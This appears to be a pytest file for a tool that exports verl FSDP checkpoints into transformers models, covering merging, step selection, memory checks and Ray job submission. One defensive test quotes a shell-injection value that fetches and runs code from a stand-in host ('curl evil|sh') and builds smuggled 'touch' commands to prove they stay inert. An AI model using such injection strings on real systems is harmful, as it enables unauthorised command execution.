"""Model delivery: verl's own merger (from the pinned wheels) turns an FSDP checkpoint into a model that
transformers loads with the original's weights. The checkpoint is a tiny Qwen2 laid out as verl's
FSDPCheckpointManager lays it out for world size 1 (verl/utils/checkpoint/fsdp_checkpoint_manager.py):
`model_world_size_1_rank_0.pt` (the model's state dict), `fsdp_config.json` and `huggingface/`."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from domain.platforms import VERL_0_6_1, VERL_0_9_0
from domain.verl_wheel import unpacked
from workloads import export_model
from workloads.export_model import ExportError


def save_tiny_tokenizer(folder: Path, scratch: Path) -> None:
    """A byte-level BPE tokenizer of 64 tokens: verl's manager saves the run's tokenizer beside the config."""
    from transformers import Qwen2Tokenizer

    vocab = scratch / "vocab.json"
    merges = scratch / "merges.txt"
    vocab.write_text(json.dumps({chr(ord("a") + i % 26) * (1 + i // 26): i for i in range(64)}))
    merges.write_text("#version: 0.2\n")
    Qwen2Tokenizer(vocab_file=str(vocab), merges_file=str(merges), unk_token=None, bos_token=None,
                   eos_token="a", pad_token="a").save_pretrained(folder)


def tiny_checkpoint(root: Path, step: int, seed: int):
    """A 2-layer Qwen2 (hidden 64) saved as verl's step `step` of a world-size-1 run; returns the model."""
    import torch
    from transformers import Qwen2Config, Qwen2ForCausalLM

    torch.manual_seed(seed)
    config = Qwen2Config(vocab_size=128, hidden_size=64, intermediate_size=128, num_hidden_layers=2,
                         num_attention_heads=4, num_key_value_heads=2, max_position_embeddings=64,
                         tie_word_embeddings=False, torch_dtype="float32")
    model = Qwen2ForCausalLM(config)
    # As a pretrained model's config, which verl's manager saves, names its class.
    model.config.architectures = ["Qwen2ForCausalLM"]
    actor = root / f"global_step_{step}" / "actor"
    (actor / "huggingface").mkdir(parents=True)
    torch.save(model.state_dict(), actor / "model_world_size_1_rank_0.pt")
    (actor / "fsdp_config.json").write_text(json.dumps({"FSDP_version": 1, "world_size": 1}))
    model.config.save_pretrained(actor / "huggingface")
    save_tiny_tokenizer(actor / "huggingface", root)
    (root / export_model.TRACKER).write_text(str(step))
    return model


# 0.6.1 here; 0.9.0's merger (A4X) delivers the same weights in test_cli_export_runs_the_merger_as_a_ray_job_...
@pytest.mark.parametrize("release", [VERL_0_6_1], ids=lambda r: r.version)
def test_verls_merger_delivers_a_model_transformers_loads_with_the_same_weights(tmp_path: Path, release) -> None:
    import torch
    from transformers import AutoModelForCausalLM

    checkpoints = tmp_path / "checkpoints" / "run-1"
    tiny_checkpoint(checkpoints, step=5, seed=0)
    newest = tiny_checkpoint(checkpoints, step=10, seed=1)
    target = export_model.export(checkpoints, tmp_path / "run-1" / "model", verl_dir=unpacked(release),
                                 python=sys.executable, timeout_s=600)
    assert target == tmp_path / "run-1" / "model"
    assert not (tmp_path / "run-1" / "model.partial").exists()
    assert any(target.glob("*.safetensors"))
    # verl's merger saves bfloat16: the original's weights, rounded to it.
    loaded = AutoModelForCausalLM.from_pretrained(target, torch_dtype="auto")
    got, expected = loaded.state_dict(), newest.state_dict()
    assert sorted(got) == sorted(expected)
    assert {t.dtype for t in got.values()} == {torch.bfloat16}
    for key, tensor in expected.items():
        assert torch.equal(got[key], tensor.to(torch.bfloat16)), key


def test_a_missing_step_or_an_incomplete_checkpoint_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"latest_checkpointed_iteration.txt: no checkpoint yet"):
        export_model.export(tmp_path, tmp_path / "model")
    actor = tmp_path / "global_step_3" / "actor"
    actor.mkdir(parents=True)
    (actor / "fsdp_config.json").write_text(json.dumps({"world_size": 2}))
    with pytest.raises(ExportError, match=r"incomplete checkpoint \(world size 2, missing "
                                          r"model_world_size_2_rank_0.pt, model_world_size_2_rank_1.pt\)"):
        export_model.export(tmp_path, tmp_path / "model", step=3)
    with pytest.raises(ExportError, match=r"no FSDP checkpoint at step 4 \(have: global_step_3\)"):
        export_model.export(tmp_path, tmp_path / "model", step=4)


def _mark_model_complete(root: Path, step: int, *, whole: bool) -> None:
    """Step `step`'s markers as workloads/checkpoints.py writes them: the model's once its files are in the
    bucket, the whole checkpoint's (and verl's tracker) once the optimizer state is too."""
    from workloads import checkpoints

    folder = root / f"global_step_{step}"
    files = {p.relative_to(folder).as_posix(): p.stat().st_size for p in folder.rglob("*") if p.is_file()}
    record = {"step": step, "attempt": "a1", "world_size": 1, "files": files}
    checkpoints.write_json(folder / checkpoints.STATE_DIR / checkpoints.SAVED_FILE,
                           {"attempt": "a1", "world_size": 1, "step": step})
    checkpoints.write_json(folder / checkpoints.MODEL_MARKER, record)
    if whole:
        checkpoints.write_json(folder / checkpoints.MARKER, record)
        (root / export_model.TRACKER).write_text(str(step))


def test_the_export_takes_the_newest_step_whose_model_is_in_the_bucket(tmp_path: Path) -> None:
    """verl's tracker names the newest resumable step (10); step 20's model is in the bucket while its
    optimizer state still copies: the export merges 20. A model marker whose file went short is passed over."""
    from workloads import checkpoints

    assert export_model.MODEL_MARKER == checkpoints.MODEL_MARKER  # the export ships alone, without checkpoints.py
    for step in (10, 20):
        _fsdp_step(tmp_path, step)
    _mark_model_complete(tmp_path, 10, whole=True)
    (tmp_path / export_model.TRACKER).write_text("10")
    assert export_model.latest_step(tmp_path) == 10
    _mark_model_complete(tmp_path, 20, whole=False)
    assert export_model.latest_step(tmp_path) == 20
    (tmp_path / "global_step_20" / "actor" / "model_world_size_1_rank_0.pt").write_bytes(b"short")
    assert export_model.latest_step(tmp_path) == 10
    # A step verl saved straight into the bucket (runs before local saves) has no marker: the tracker names it,
    # taken once the merger's files are there.
    _fsdp_step(tmp_path, 30)
    (tmp_path / export_model.TRACKER).write_text("30")
    assert export_model.latest_step(tmp_path) == 30
    (tmp_path / "global_step_30" / "actor" / "model_world_size_1_rank_0.pt").unlink()
    assert export_model.latest_step(tmp_path) == 10


def _fsdp_step(root: Path, step: int) -> Path:
    """The files verl's merger reads of a world-size-1 step; returns the step folder."""
    actor = root / f"global_step_{step}" / "actor"
    (actor / "huggingface").mkdir(parents=True)
    (actor / "model_world_size_1_rank_0.pt").write_bytes(b"w" * 64)
    (actor / "fsdp_config.json").write_text(json.dumps({"world_size": 1}))
    (actor / "huggingface" / "config.json").write_text("{}")
    return actor.parent


def test_the_tracker_names_a_step_for_the_export_only_where_verl_gke_did_not_copy_it(tmp_path: Path) -> None:
    """A step the copiers wrote is the export's only through a marker of its current attempt: verl's tracker
    naming it (an earlier attempt's, say) is not enough, whatever files are there."""
    from workloads import checkpoints

    _fsdp_step(tmp_path, 10)
    _mark_model_complete(tmp_path, 10, whole=True)
    step = _fsdp_step(tmp_path, 30)
    checkpoints.write_json(step / checkpoints.STATE_DIR / checkpoints.SAVED_FILE, {"attempt": "a2", "world_size": 1})
    (tmp_path / export_model.TRACKER).write_text("30")
    assert export_model.latest_step(tmp_path) == 10


def test_a_complete_marker_alone_says_the_model_is_in_the_bucket(tmp_path: Path) -> None:
    """verl-gke 0.6.0 wrote the complete marker only; it lists the model's files too."""
    from workloads import checkpoints

    _fsdp_step(tmp_path, 10)
    _mark_model_complete(tmp_path, 10, whole=True)
    (tmp_path / "global_step_10" / checkpoints.MODEL_MARKER).unlink()
    assert export_model.model_steps(tmp_path) == [10]


def test_an_explicit_step_is_exported_only_when_its_model_is_whole_in_the_bucket(tmp_path: Path) -> None:
    """`verl-gke export --step 30`: node1's copier died 1 byte into its shard (no marker): refused before the
    merger runs, naming the steps that can be exported."""
    ran = tmp_path / "merger-ran"
    fake = tmp_path / "python"
    fake.write_text(f"#!/bin/sh\ntouch {ran}\n")
    fake.chmod(0o755)
    _fsdp_step(tmp_path, 10)
    _mark_model_complete(tmp_path, 10, whole=True)
    step = _fsdp_step(tmp_path, 30)
    _mark_model_complete(tmp_path, 30, whole=False)
    (step / export_model.MODEL_MARKER).unlink()
    (step / "actor" / "model_world_size_1_rank_0.pt").write_bytes(b"w")
    with pytest.raises(ExportError) as refused:
        export_model.export(tmp_path, tmp_path / "model", 30, python=str(fake), memory_bytes=1 << 40)
    assert str(refused.value) == (f"{tmp_path}/global_step_30: step 30's model has not been fully copied to the "
                                  "bucket (its copy was cut, or is still running); steps that can be exported: 10")
    assert not ran.exists()


@pytest.mark.ray
def test_cli_export_runs_the_merger_as_a_ray_job_and_prints_the_models_uri(
        ray_head: str, gcs_emulator: str, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    import torch
    from transformers import AutoModelForCausalLM

    from tests.gcs_emulator import exports_on_the_emulator, make_bucket
    from verl_gke import cli

    # The bucket as the nodes mount it: here a folder the loopback head reads; its JSON API (the export's
    # claim and pointer): the emulator, named to the job as Google's libraries are told of one.
    bucket = tmp_path / "bucket"
    gcs = make_bucket(gcs_emulator, "verl-data-p", bucket)
    exports_on_the_emulator(monkeypatch, gcs_emulator)
    # The model is named by the run, never by its attempt's Ray job (0.7.0 named it by grpoSubmissionId).
    run_id = "run-0123456789ab"
    model = tiny_checkpoint(bucket / "verl" / "checkpoints" / run_id, step=7, seed=2)
    outputs = tmp_path / "outputs.json"
    outputs.write_text(json.dumps({
        "clusterName": "verl-a4", "clusterLocation": "us-central1", "namespace": "default", "runId": run_id,
        "rayHeadService": "b200-ray-cluster-head-svc", "grpoSubmissionId": "verl-grpo-a4-fedcba987654-1",
        "grpoJobStatus": "SUCCEEDED",
        "dashboardCommand": "kubectl port-forward ...", "gpuPlatform": "a4", "gpuNodes": 2, "gpusPerNode": 8,
        "checkpointUri": f"gs://verl-data-p/verl/checkpoints/{run_id}"}))
    code = cli.main(["export", "--outputs", str(outputs), "--dashboard-url", ray_head, "--step", "7",
                     "--bucket-mount", str(bucket), "--verl-dir", str(unpacked(VERL_0_9_0)), "--poll", "1",
                     # The loopback head's own venv has Ray only; the test venv has verl's dependencies.
                     "--python", sys.executable,
                     "--timeout", "600"])
    out, err = capsys.readouterr()
    assert (code, out) == (0, f"gs://verl-data-p/models/{run_id}/model-step-7\n"), err
    pointer, _ = gcs.read_json(f"models/{run_id}/model-step-7.json")
    assert (pointer["export"], pointer["step"]) == (f"verl-export-{run_id}-step-7", 7)
    loaded = AutoModelForCausalLM.from_pretrained(bucket / "models" / run_id / "model-step-7", torch_dtype="auto")
    got, expected = loaded.state_dict(), model.state_dict()
    assert sorted(got) == sorted(expected)
    assert {t.dtype for t in got.values()} == {torch.bfloat16}
    for key, tensor in expected.items():
        assert torch.equal(got[key], tensor.to(torch.bfloat16)), key


def test_the_export_job_runs_on_the_head_unless_it_asks_for_memory() -> None:
    plain = export_model.submission(run_id="r", checkpoint_dir="/data/ck/r", step=None, working_dir="/w")
    assert plain == {
        "entrypoint": "python export_model.py --checkpoint-dir /data/ck/r --target-dir /data/models/r/model",
        "submission_id": "verl-export-r-final", "runtime_env": {"working_dir": "/w"},
        "metadata": {"verl_gke_export": "/data/models/r/model"},
    }
    big = export_model.submission(run_id="r", checkpoint_dir="/data/ck/r", step=3, working_dir="/w",
                                  memory_bytes=260 * 10**9)
    assert big["entrypoint"].endswith("--target-dir /data/models/r/model-step-3 --step 3")
    assert (big["entrypoint_memory"], big["entrypoint_num_cpus"]) == (260 * 10**9, 1)


def test_model_uri_is_empty_until_the_runs_export_succeeded(synth_stack) -> None:
    from verl_gke import synth

    def answering(status: str, export_outcome: str) -> synth.RecordingMonitor:
        class Answer(synth.SynthMocks):
            """The provider's answer: the run's status and its record's export outcome."""

            def new_resource(self, args):
                id_, state = super().new_resource(args)
                if args.typ == synth.GRPO_JOB_TYPE:
                    state.update(status=status, export_outcome=export_outcome)
                return id_, state

        return synth.RecordingMonitor(Answer())

    running = synth_stack("a4-standard")  # the session's synth: the mock engine answers no status
    assert running.outputs["modelUri"] == ""
    # The run succeeded, the export did not (or has not yet): no model to name.
    for outcome in ("", "FAILED: export_model: no checkpoint yet"):
        assert synth.run("a4-standard", monitor=answering("SUCCEEDED", outcome)).outputs["modelUri"] == ""
    done = synth.run("a4-standard", monitor=answering("SUCCEEDED", "SUCCEEDED"))
    run_id = done.outputs["checkpointUri"].rsplit("/", 1)[1]  # the run's id names its checkpoint folder
    assert done.outputs["modelUri"] == f"gs://{done.outputs['bucketName']}/models/{run_id}/model"


def test_a_merge_that_would_not_fit_in_memory_is_refused_before_it_starts(tmp_path: Path) -> None:
    tiny_checkpoint(tmp_path, step=1, seed=0)
    shards = (tmp_path / "global_step_1" / "actor" / "model_world_size_1_rank_0.pt").stat().st_size
    assert export_model.memory_needed(tmp_path / "global_step_1" / "actor") == 2 * shards
    with pytest.raises(ExportError, match=r"needs about 0\.0 GB of memory \(twice its model shards\); this node "
                                          r"allows 0\.0 GB: export with --memory-gb 1 so Ray runs it"):
        export_model.export(tmp_path, tmp_path / "model", memory_bytes=shards)
    assert not (tmp_path / "model.partial").exists()


def test_a_hostile_checkpoint_uri_stays_one_argument_of_the_exports_entrypoint(tmp_path: Path) -> None:
    """`checkpointUri` comes from an outputs file: `gs://b/x;curl evil|sh;#` must reach the merger as
    a path, never as shell commands on the head (Ray runs the entrypoint with a shell)."""
    marker = tmp_path / "pwned"
    folder = f"x;touch {marker};#"
    job = export_model.submission(run_id="r $(touch " + str(marker) + ")", checkpoint_dir=f"/data/{folder}",
                                  step=None, working_dir="/w", python="echo", verl_dir="/data/verl 0.9")
    done = subprocess.run(["/bin/sh", "-c", job["entrypoint"]], capture_output=True, text=True, timeout=30,
                          check=True)
    assert not marker.exists()
    assert done.stdout.split("\n")[0] == (
        f"export_model.py --checkpoint-dir /data/{folder} --target-dir /data/models/r $(touch {marker})/model "
        "--verl-dir /data/verl 0.9")
    assert shlex.split(job["entrypoint"]) == [
        "echo", "export_model.py", "--checkpoint-dir", f"/data/{folder}",
        "--target-dir", f"/data/models/r $(touch {marker})/model", "--verl-dir", "/data/verl 0.9"]


def test_the_export_never_takes_an_older_step_because_one_read_failed(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for step in (10, 20):
        _fsdp_step(tmp_path, step)
        _mark_model_complete(tmp_path, step, whole=True)
    assert export_model.latest_step(tmp_path) == 20
    real = Path.read_text

    def eio(path: Path, *args, **kwargs) -> str:
        if path.name == "saved.json" and path.parent.parent.name == "global_step_20":
            raise OSError(5, "Input/output error")
        return real(path, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", eio)
    with pytest.raises(OSError):  # the export fails (and is retried), never publishes step 10 as the final model
        export_model.latest_step(tmp_path)
